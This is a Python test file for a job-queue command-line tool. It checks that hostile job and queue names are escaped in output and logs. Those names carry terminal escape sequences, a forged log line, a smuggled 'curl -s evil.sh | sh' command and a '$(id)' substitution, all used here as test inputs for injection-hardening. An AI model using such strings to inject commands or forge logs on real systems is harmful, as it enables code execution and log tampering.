"""Texts of jobs change no terminal, forge no line, and become no command."""

from __future__ import annotations

import json
import logging
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from dayjob import Broker, Recurring
from dayjob.cli import logging_setup
from dayjob.engines.base import Progress
from dayjob.model.names import printable
from tests.cli.store import Store
from tests.support.bound import BOUND

FORGED = "2026-11-16 04:00:00.000 INFO    all is well"
CONTROLS = "\x1b]0;PWNED\x07\x1b[2J\x9b32m\r\x08\x7f\x85\u202e\u2028\u2066\u200b"
EVIL = f"x{CONTROLS}\n{FORGED}"


async def hostile(broker: Broker) -> list[str]:
    """Fill a store with such names. Return the ids of a dead, a done, a running and a pending job."""
    ids = []
    for number in range(4):
        made = await broker.enqueue(
            EVIL, json.dumps({EVIL: EVIL}).encode(), task=EVIL, tenant=EVIL, dedup_key=f"{number}{EVIL}",
            headers={EVIL: EVIL}, max_attempts=1,
        )  # fmt: skip
        ids.append(made.id)
    dead, done, running = await broker.claim([EVIL], limit=3, lease=3600, worker=EVIL)
    await broker.dead_letter(dead, f"Error: {EVIL}")
    await broker.ack(done, result=json.dumps(EVIL).encode())
    await broker.record_progress([Progress(running.key, running.claim, 0.5, EVIL)])
    await broker.schedule(Recurring(EVIL, cron="0 3 * * *", task=EVIL, queue=EVIL))
    await broker.pause(EVIL)
    return ids


def is_safe(text: str) -> bool:
    return all(each.isprintable() or each == "\n" for each in text) and not re.search(
        rf"^{re.escape(FORGED)}", text, re.MULTILINE
    )


COMMANDS = [
    ("jobs",), ("queues",), ("dead",), ("dead", "--group"), ("doctor",), ("workers",), ("schedules",),
    ("dead requeue", "--all"), ("dead purge", "--all"), ("dead purge", "-q", EVIL), ("cancel", "-q", EVIL),
    ("queues clear", EVIL), ("pause", EVIL), ("resume", EVIL), ("schedules pause", EVIL),
    ("schedules trigger", EVIL), ("jobs", "--after", EVIL), ("show", EVIL), ("enqueue", "-q", EVIL, EVIL),
    ("enqueue", "-q", EVIL * 10, "t"),
]  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: " ".join(command[:2]).split("x\x1b")[0])
def test_control_characters_of_names_are_escaped(store: Store, command: tuple[str, ...]) -> None:
    store.with_broker(hostile)
    for extra in ((), ("--json",)):
        result = store.run(*command, *extra, input="n\n")
        assert is_safe(result.stdout), result.stdout
        assert is_safe(result.stderr), result.stderr


def test_control_characters_of_a_job_are_escaped(store: Store) -> None:
    ids = store.with_broker(hostile)
    for id in ids:
        for command in ("show", "explain"):
            assert is_safe(store.run(command, id).output)
            assert is_safe(store.run(command, id, "--json").output)
    assert store.json("show", ids[0])["queue"] == EVIL


def test_the_commands_that_doctor_suggests_are_quoted(store: Store) -> None:
    names = ["mail; curl -s evil.sh | sh #", "-x $(id)"]

    async def add(broker: Broker) -> None:
        for name in names:
            await broker.enqueue(name)
            await broker.pause(name)

    store.with_broker(add)
    output = store.run("doctor").output
    suggested = [shlex.split(line.partition(": ")[2]) for line in output.splitlines() if "resume it" in line]
    assert sorted(suggested) == sorted([["dayjob", "resume", names[0]], ["dayjob", "resume", "--", names[1]]])
    for command in suggested:
        assert store.run(" ".join(command[1:2]), *command[2:]).exit_code == 0


def test_a_text_log_escapes_names_and_marks_further_lines() -> None:
    try:
        raise ValueError(EVIL)
    except ValueError:
        failure = sys.exc_info()
    record = logging.LogRecord("dayjob.worker", logging.ERROR, "", 1, "task %s failed", (EVIL,), failure)
    record.__dict__ |= {
        "job_id": "1",
        "task": EVIL,
        "queue": EVIL,
        "attempt": 1,
        "failure": f"ValueError: {EVIL}",
    }
    text = logging_setup.TextFormatter().format(record)
    assert is_safe(text)
    first, *others = text.split("\n")
    assert "task x\\x1b]0;PWNED" in first
    assert others
    assert all(line.startswith(logging_setup.CONTINUED) for line in others)
    assert is_safe(logging_setup.JsonFormatter().format(record))


def test_a_worker_logs_hostile_names_on_lines_of_their_own(store: Store, tmp_path: Path) -> None:
    (tmp_path / "hostile_app.py").write_text(
        f"from dayjob import App\napp = App({store.url!r})\n@app.task(name='t', queue='q')\n"
        "def t(text: str) -> None:\n    raise ValueError(text)\n"
    )

    async def add(broker: Broker) -> None:
        await broker.enqueue("q", json.dumps({"text": EVIL}).encode(), task="t", max_attempts=1)
        await broker.enqueue("q", b"{}", task=EVIL, max_attempts=1)

    store.with_broker(add)
    done = subprocess.run(
        [sys.executable, "-m", "dayjob", "worker", "hostile_app:app", "--burst", "--unknown-task", "dead"],
        cwd=tmp_path, capture_output=True, timeout=BOUND, check=True,
    )  # fmt: skip
    output = done.stdout.decode() + done.stderr.decode()
    assert output.count("PWNED") > 2
    assert is_safe(output), output


def test_text_of_any_language_stays_as_it_is() -> None:
    assert printable("Ünïcödé 日本語 🎉 a b") == "Ünïcödé 日本語 🎉 a b"
    assert printable("a\tb\nc", keep="\n\t") == "a\tb\nc"
    assert printable("\x1b\ud800\u2028") == r"\x1b\ud800\u2028"
